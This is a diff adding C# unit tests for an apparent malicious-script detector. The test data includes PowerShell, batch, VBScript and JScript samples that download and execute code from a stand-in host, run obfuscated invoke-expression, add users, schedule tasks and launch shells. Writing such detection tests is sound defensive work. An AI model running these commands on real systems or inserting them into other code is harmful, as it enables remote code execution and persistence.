@@ -33,6 +33,19 @@ public sealed class ScriptFileTests
     [InlineData("<#\n\\begin{a}\n#>\nIEX (New-Object Net.WebClient).DownloadString('http://a.example/')", "a.ps1")]
     [InlineData("powershell -enc SQBFAFgA\n\n.. code\n```\n", "b.bat")]
     [InlineData("net user a b /add\r\nschtasks /create /tn a /tr b\r\ncertutil -urlcache -f http://a.example/x x.exe", "a.bat")]
+    [InlineData("(New-Object System.Net.WebClient).DownloadFile('http://a.example/a.exe','a.exe');Start-Process 'a.exe'", "a.ps1")]
+    [InlineData("[Net.ServicePointManager]::Expect100Continue=0;$wc=New-Object Net.WebClient;"
+        + "$wc.DownloadString('http://a.example/')|iex", "a.ps1")]
+    [InlineData("& ((gv '*mdr*').Name[3,11,2]-join'') (New-Object Net.WebClient).DownloadString('http://a.example/')", "a.ps1")]
+    [InlineData("if([IntPtr]::Size -eq 4){$b='powershell.exe'};$s=New-Object System.Diagnostics.ProcessStartInfo", "a.ps1")]
+    [InlineData("if(''+(nslookup -q=txt a.example) -match '@(.*)@'){iex $matches[1]}", "a.ps1")]
+    [InlineData("$08Q = '[DllImport(\"kernel32.dll\")] VirtualAlloc';\n$a1 = Add-Type -MemberDefinition $08Q;\n", "a.ps1")]
+    [InlineData("function Get-It {\n  Start-Process calc\n}\nGet-It\n", "a.ps1")]
+    [InlineData("Dim oShell\r\nSet oShell = WScript.CreateObject (\"WScript.Shell\")\r\noShell.Run \"calc\"", "a.vbs")]
+    [InlineData("a = (1, this);\nfunction String.prototype.run() { return 'Shell'; }\n"
+        + "b = new a[('x', 'ActiveXObject')]('WScript.' + ''.run());\n(b)['Run']('calc');\n"
+        + "new ActiveXObject('WScript.Shell').Run('x');", "a.js")]
+    [InlineData("/*@cc_on\n  @if (@_win32)\n new ActiveXObject('WScript.Shell').Run('calc');\n @end @*/", "a.js")]
     public void Complete_ScriptThatActs_IsSuspiciousByItselfAndInside(string script, string name)
     {
         var alone = Judged.Of(script);
@@ -41,6 +54,38 @@ public sealed class ScriptFileTests
         alone.Verdict.ShouldBeOneOf([Verdict.Suspicious, Verdict.Malicious], Judged.Text(alone));
         inside.Verdict.ShouldBeOneOf([Verdict.Suspicious, Verdict.Malicious], Judged.Text(inside));
     }
+
+    [Theory]
+    [InlineData("/*", "*/\n")]
+    [InlineData("//", "\n")]
+    public void Complete_ScriptBehindALongComment_IsAScript(string start, string end)
+    {
+        var script = start + new string('c', 600_000) + end + "var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n";
+
+        var report = Judged.Of(script);
+
+        (report.Verdict, report.MediaType).ShouldBe((Verdict.Suspicious, "text/javascript"), Judged.Text(report));
+    }
+
+    [Theory]
+    [InlineData("name: build\ndescription: 'Runs it'\njobs:\n  - run: |\n"
+        + "      [Net.ServicePointManager]::X = 1\n      (New-Object Net.WebClient)\n")]
+    [InlineData("<component name=\"ProjectCodeStyleConfiguration\">\n  <state><option name=\"A\" value=\"B\" /></state>\n</component>")]
+    [InlineData("<component type=\"desktop-application\"><id>org.example.App</id><name>App</name></component>")]
+    [InlineData("$5 (five dollars)\n$10 = ten dollars\n$20 | twenty\n")]
+    [InlineData("a::selection { color: red }\n::selection { color: blue }\n")]
+    [InlineData("/* a style sheet */\nbody { margin: 0 }\n")]
+    public void Complete_TextThatOnlyLooksLikeAScript_IsClean(string text) =>
+        Judged.Of(text).Verdict.ShouldBe(Verdict.Clean, Judged.Text(Judged.Of(text)));
+
+    [Fact]
+    public void Complete_BatchFileThatHidesDataInAComment_IsAScript() =>
+        Judged.Of("::" + new string('A', 400) + "\r\nset \"a=b\"\r\nexit\r\n").MediaType.ShouldBe("application/x-bat");
+
+    [Fact]
+    public void Complete_PageThatBeginsWithAnInput_IsAPage() =>
+        Judged.Of($"\r\n\t<input id='a' value='{new string('A', 9000)}'><script>eval(unescape('%61'))</script>").MediaType
+            .ShouldBe("text/html");
 
     [Theory]
     [InlineData("function add(a, b) { return a + b; }\nvar c = add(1, 2);\n", "text/javascript")]
